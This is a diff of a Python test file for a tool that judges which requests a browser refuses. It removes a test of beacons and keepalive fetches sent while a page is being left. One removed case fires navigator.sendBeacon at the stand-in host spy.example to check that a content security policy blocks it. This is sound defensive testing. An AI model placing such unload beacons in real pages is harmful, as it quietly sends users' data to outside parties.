@@ -1,7 +1,6 @@
 """What a browser refuses is observed, with its own reason; a build that falls back passes."""
 
 import dataclasses
-from collections.abc import Sequence
 from typing import Final
 
 import pytest
@@ -168,45 +167,6 @@ def test_refused_request_to_a_host_that_nobody_documented_fails(judged: Judge, n
     assert difference.observed == observed
     assert difference.hint.endswith(f"; refused by the browser: {reason}")
     assert not list(disagreements(recording))
-
-
-UNCLAIMED: Final = "not a documented host of the destination"
-AT_END = """
-    addEventListener("pagehide", () => { %s; });
-    module.exports = Reference;
-"""
-
-
-@pytest.mark.parametrize(
-    ("expression", "conditions", "hints"),
-    [
-        pytest.param(
-            f"fetch('{HERE}/seen', {KEPT % 'POST'})",
-            ORDINARY,
-            ["refused by the browser: size limit (70000 bytes)"],
-            id="keepalive",
-        ),
-        pytest.param(
-            f"navigator.sendBeacon('{HERE}/seen', {LARGE})",
-            ORDINARY,
-            ["refused by the browser: size limit (sendBeacon() returned false)"],
-            id="beacon",
-        ),
-        pytest.param(
-            "navigator.sendBeacon('https://spy.example/e', 'x')",
-            STRICT,
-            [f"{UNCLAIMED}; refused by the browser: content security policy (connect-src)", ""],
-            id="policy",
-        ),
-    ],
-)
-def test_what_is_refused_while_the_page_is_left_is_no_error(
-    judged: Judge, expression: str, conditions: Conditions, hints: Sequence[str]
-) -> None:
-    verdict, recording = judged(promised(conditions=conditions), integration=AT_END % expression)
-    assert verdict.word is Word.FAIL, verdict.reason
-    assert [difference.hint for difference in verdict.differences] == hints
-    assert [seen.phase for seen in refusals(recording)] == ["unload"]
 
 
 def loads_tracker(**attributes: str) -> str:
